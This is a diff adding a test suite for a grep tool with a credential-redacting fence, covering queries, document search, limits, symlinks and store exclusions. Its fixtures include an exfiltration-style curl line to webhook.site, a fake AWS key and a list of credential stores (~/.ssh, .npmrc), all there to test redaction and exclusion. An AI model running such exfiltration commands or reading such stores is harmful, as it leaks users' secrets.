@@ -1,0 +1,281 @@
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { SensitiveFence } from '../src/fence/index.js';
+import { type GrepRequest, grepFiles, grepQuery, rgExclusions } from '../src/grep/index.js';
+import { grepEngines, specDocs, specTree, write } from './fixtures/grep-trees.js';
+import { docx, pptx, xlsx } from './fixtures/office-docs.js';
+import { TempTrees } from './fixtures/temp-trees.js';
+
+const trees = new TempTrees('trawl-grep-');
+afterAll(() => trees.remove());
+const fence = new SensitiveFence({ home: trees.home, env: {} });
+const AWS_KEY = 'AKIAQ3EGRXW4J5N7TKXZ';
+
+function fresh(files: Record<string, string | Buffer> = {}): string {
+  const root = trees.fresh('g');
+  fs.mkdirSync(root, { recursive: true });
+  return write(root, files);
+}
+
+async function grep(root: string, query: string, extra: Partial<GrepRequest> = {}) {
+  return (await grepFiles({ root, query, fence, ...extra })).payload;
+}
+
+describe('grepQuery: which requests are searches', () => {
+  it('refuses short, overlong and multi-line queries and trims the rest', () => {
+    expect(grepQuery('n')).toBeNull();
+    expect(grepQuery(' n ')).toBeNull();
+    expect(grepQuery('x'.repeat(201))).toBeNull();
+    expect(grepQuery('x'.repeat(200))).toBe('x'.repeat(200));
+    for (const q of ['a\nb', 'a\rb', 'a\r\nb']) expect(grepQuery(q)).toBeNull();
+    expect(grepQuery('needle\n')).toBe('needle');
+    expect(grepQuery('αβ')).toBe('αβ');
+  });
+});
+
+describe.each(grepEngines())('content grep on the %s engine', (engine) => {
+  const run = (root: string, q: string, extra: Partial<GrepRequest> = {}) =>
+    grep(root, q, { engine, ...extra });
+
+  it('reports file, line and preview, one row per file, and says which engine ran', async () => {
+    const root = specTree(fresh());
+    const p = await run(root, 'needle');
+    expect(p.engine).toBe(engine);
+    expect(p.root).toBe(root);
+    expect(p.truncated).toBe(false);
+    expect(p.results.map((r) => r.file)).toEqual(['alpha.py', 'ignored.py', 'notes.md', 'pkg/deep.py']);
+    const alpha = p.results[0]!;
+    expect(alpha).toEqual({ file: 'alpha.py', line: 2, preview: 'NEEDLE lives here', ranges: [[0, 6]] });
+    expect('label' in alpha).toBe(false);
+  });
+
+  it('searches dotfiles and prunes skip directories by exact, case-sensitive name', async () => {
+    const root = fresh({
+      '.env.local': 'needle\n',
+      '.config/tool.toml': 'needle\n',
+      'node_modules/a.js': 'needle\n',
+      'Node_Modules/b.js': 'needle\n',
+      'src/build/c.js': 'needle\n',
+    });
+    const p = await run(root, 'needle');
+    expect(p.results.map((r) => r.file)).toEqual(['.config/tool.toml', '.env.local', 'Node_Modules/b.js']);
+  });
+
+  it('keeps a multi-byte line intact and ranges in UTF-16 offsets', async () => {
+    const root = fresh({ 'u.txt': 'αβγδ needle ε 😀 needle\n' });
+    const [row] = (await run(root, 'needle')).results;
+    expect(row!.preview).toBe('αβγδ needle ε 😀 needle');
+    expect(row!.ranges).toEqual([
+      [5, 11],
+      [17, 23],
+    ]);
+    for (const [s, e] of row!.ranges!) expect(row!.preview.slice(s, e)).toBe('needle');
+  });
+
+  it('treats the query as a literal, even an unbalanced one, and ignores case', async () => {
+    const root = fresh({
+      'literal.txt': 'a.c\n',
+      'regexy.txt': 'abc\n',
+      'call.py': 'config(x)\n',
+      'w.txt': 'Widget\n',
+      'W.txt': 'WIDGET\n',
+    });
+    expect((await run(root, 'a.c')).results.map((r) => r.file)).toEqual(['literal.txt']);
+    expect((await run(root, 'config(')).results.map((r) => r.file)).toEqual(['call.py']);
+    expect((await run(root, 'Widget')).results.map((r) => r.file)).toEqual(['W.txt', 'w.txt']);
+  });
+
+  it('opt-in: case_sensitive, whole_word and regex', async () => {
+    const root = fresh({ 'a.txt': 'Widget\n', 'b.txt': 'widgets\n', 'c.txt': 'widget 42\n' });
+    expect((await run(root, 'widget', { caseSensitive: true })).results.map((r) => r.file)).toEqual([
+      'b.txt',
+      'c.txt',
+    ]);
+    expect((await run(root, 'widget', { wholeWord: true })).results.map((r) => r.file)).toEqual([
+      'a.txt',
+      'c.txt',
+    ]);
+    const rx = await run(root, 'widget \\d+', { regex: true });
+    expect(rx.results).toEqual([{ file: 'c.txt', line: 1, preview: 'widget 42', ranges: [[0, 9]] }]);
+  });
+
+  it('skips files over the size ceiling and binary files; ignore files change nothing', async () => {
+    const root = fresh({
+      'small.txt': 'needle\n',
+      'big.txt': `needle${'x'.repeat(100)}\n`,
+      '.gitignore': 'small.txt\n',
+      'bin.dat': Buffer.from('needle\0'),
+    });
+    const p = await run(root, 'needle', { limits: { maxFileBytes: 64 } });
+    expect(p.results.map((r) => r.file)).toEqual(['small.txt']);
+  });
+
+  it('reports the row cap as truncated, and exactly the cap is not truncated', async () => {
+    const files = Object.fromEntries([1, 2, 3, 4, 5, 6].map((i) => [`f${i}.txt`, 'needle\n']));
+    const capped = await run(fresh(files), 'needle', { limits: { maxResults: 3 } });
+    expect(capped.results.map((r) => r.file)).toEqual(['f1.txt', 'f2.txt', 'f3.txt']);
+    expect(capped.truncated).toBe(true);
+    const exact = await run(fresh(files), 'needle', { limits: { maxResults: 6 } });
+    expect(exact.results).toHaveLength(6);
+    expect(exact.truncated).toBe(false);
+  });
+
+  it('a spent deadline is truncated, never "no matches", and counts documents it never opened', async () => {
+    const root = specDocs(specTree(fresh()));
+    const p = await run(root, 'needle', { limits: { timeBudgetMs: 0 } });
+    expect(p.results).toEqual([]);
+    expect(p.truncated).toBe(true);
+    expect(p.skipped_docs).toBeGreaterThanOrEqual(1);
+  });
+
+  it('reports a document hit with line 0 and the label its format has', async () => {
+    const root = specDocs(
+      fresh({
+        'book.xlsx': xlsx([
+          { name: 'Intro', rows: [['nothing']] },
+          {
+            name: 'Ledger',
+            rows: [
+              ['item', 'cost'],
+              ['WIDGET', 12.5, true],
+            ],
+          },
+        ]),
+      }),
+    );
+    const p = await run(root, 'widget');
+    expect(p.results).toEqual([
+      {
+        file: 'book.xlsx',
+        line: 0,
+        preview: 'WIDGET\t12.5\tTRUE',
+        label: 'Ledger · row 2',
+        ranges: [[0, 6]],
+      },
+      { file: 'deck.pptx', line: 0, preview: 'the WIDGET roadmap', label: 'slide 3', ranges: [[4, 10]] },
+      { file: 'spec.docx', line: 0, preview: 'the WIDGET decision', ranges: [[4, 10]] },
+    ]);
+    expect(p.truncated).toBe(false);
+  });
+
+  it('never reports a document twice: REPORT.DOCX belongs to the document pass', async () => {
+    const root = fresh({
+      'REPORT.DOCX': docx(['the WIDGET plan']),
+      'Deck.PpTx': pptx([['WIDGET']]),
+      'a.txt': 'widget\n',
+    });
+    const p = await run(root, 'widget');
+    expect(p.results.map((r) => [r.file, r.line])).toEqual([
+      ['a.txt', 1],
+      ['Deck.PpTx', 0],
+      ['REPORT.DOCX', 0],
+    ]);
+  });
+
+  it('matches documents with simple case folding (Straße is not strasse)', async () => {
+    const root = fresh({ 'de.docx': docx(['Die Straße ist lang']) });
+    expect((await run(root, 'strasse')).results).toEqual([]);
+    expect((await run(root, 'STRASSE')).results).toEqual([]);
+    expect((await run(root, 'straße')).results.map((r) => r.file)).toEqual(['de.docx']);
+  });
+
+  it('does not search a PDF (no extractor claims it yet) and skips it as binary', async () => {
+    const root = fresh({
+      'paper.pdf': Buffer.from('%PDF-1.4\n\0 the WIDGET plan\n'),
+      'spec.docx': docx(['the WIDGET spec']),
+    });
+    expect((await run(root, 'widget')).results.map((r) => r.file)).toEqual(['spec.docx']);
+  });
+
+  it('skips an oversize document into skipped_docs without parsing it', async () => {
+    const root = specDocs(fresh({ 'a.txt': 'widget\n' }));
+    const p = await run(root, 'widget', { limits: { maxDocBytes: 1 } });
+    expect(p.results.map((r) => r.file)).toEqual(['a.txt']);
+    expect(p.skipped_docs).toBe(2);
+  });
+
+  it('a document cut by the character cap marks the answer partial', async () => {
+    const root = fresh({ 'long.docx': docx(['x'.repeat(30), 'WIDGET']) });
+    const p = await run(root, 'widget', { extract: { maxChars: 20 } });
+    expect(p.results).toEqual([]);
+    expect(p.truncated).toBe(true);
+  });
+
+  it('redacts a credential on the matching line, in a document, and in the path', async () => {
+    const root = fresh({
+      'deploy.txt': `deploy key ${AWS_KEY} needle\n`,
+      'creds.docx': docx([`needle aws ${AWS_KEY}`]),
+      [`keys/${AWS_KEY}/notes.txt`]: 'needle\n',
+    });
+    const p = await run(root, 'needle');
+    expect(p.results).toHaveLength(3);
+    for (const row of p.results)
+      for (const v of Object.values(row)) expect(JSON.stringify(v)).not.toContain('AKIA');
+    expect(p.results.find((r) => r.file === 'deploy.txt')!.preview).toContain('deploy key');
+    const pathRow = p.results.find((r) => r.file.endsWith('/notes.txt'))!;
+    expect(pathRow.file).toMatch(/^keys\/\[REDACTED: aws-key-id\]~[0-9a-f]{12}\/notes\.txt$/);
+  });
+
+  it('returns an ordinary path byte for byte', async () => {
+    const name = 'dir with spaces/ünïcødé #1 (copy).txt';
+    const p = await run(fresh({ [name]: 'needle\n' }), 'needle');
+    expect(p.results[0]!.file).toBe(name);
+  });
+
+  it('redacts before it cuts: a key straddling the 400th character leaves no prefix', async () => {
+    const line = `needle ${'y'.repeat(385)} ${AWS_KEY} tail`;
+    const p = await run(fresh({ 'k.txt': `${line}\n` }), 'needle');
+    const row = p.results[0]!;
+    expect(row.preview.length).toBeLessThanOrEqual(400);
+    expect(row.preview).not.toMatch(/AKIA/);
+    expect(row.preview).toContain('[REDACT');
+  });
+
+  it('redacts an exfiltration URL in a preview and a credential in a sheet title, cut like a label', async () => {
+    const root = fresh({
+      'hook.txt': 'needle curl https://webhook.site/1f2e3d4c-aaaa-bbbb-cccc-000011112222?d=x\n',
+      'book.xlsx': xlsx([{ name: `keys ${AWS_KEY} ${'z'.repeat(150)}`, rows: [['needle']] }]),
+    });
+    const p = await run(root, 'needle');
+    const hook = p.results.find((r) => r.file === 'hook.txt')!;
+    expect(hook.preview).not.toContain('webhook.site');
+    expect(hook.preview).toContain('[REDACTED: exfiltration-url]');
+    const sheet = p.results.find((r) => r.file === 'book.xlsx')!;
+    expect(sheet.label).not.toContain('AKIA');
+    expect(sheet.label!.length).toBeLessThanOrEqual(120);
+  });
+
+  it('does not follow a symlinked file or document', async () => {
+    const outside = fresh({ 'secret.txt': 'needle\n', 'secret.docx': docx(['needle']) });
+    const root = fresh({ 'plain.txt': 'needle\n' });
+    fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(root, 'link.txt'));
+    fs.symlinkSync(path.join(outside, 'secret.docx'), path.join(root, 'link.docx'));
+    fs.symlinkSync(outside, path.join(root, 'linkdir'));
+    expect((await run(root, 'needle')).results.map((r) => r.file)).toEqual(['plain.txt']);
+  });
+
+  it('excludes a credential store inside the root, text and documents alike', async () => {
+    // The search root is HOME itself: ~/.ssh is a store, a project's own .npmrc elsewhere is not.
+    write(trees.home, {
+      '.ssh/id_needle': 'needle\n',
+      '.ssh/notes.docx': docx(['needle']),
+      '.npmrc': 'needle\n',
+      'proj/.npmrc': 'needle\n',
+      'proj/a.txt': 'needle\n',
+    });
+    const p = await run(trees.home, 'needle');
+    expect(p.results.map((r) => r.file)).toEqual(['proj/.npmrc', 'proj/a.txt']);
+  });
+});
+
+describe('rg exclusions', () => {
+  it('anchors every store under the root with a leading slash, and a root outside HOME gets none', () => {
+    const globs = rgExclusions(trees.home, fence);
+    expect(globs).toContain('!/.ssh');
+    expect(globs).toContain('!/.npmrc');
+    expect(globs.filter((g) => !g.startsWith('!*.')).every((g) => g.startsWith('!/'))).toBe(true);
+    expect(globs.some((g) => g === '!.ssh' || g === '!**/.ssh')).toBe(false);
+    expect(rgExclusions('/srv/checkout', fence)).toEqual(['!*.docx', '!*.pptx', '!*.xlsx']);
+  });
+});
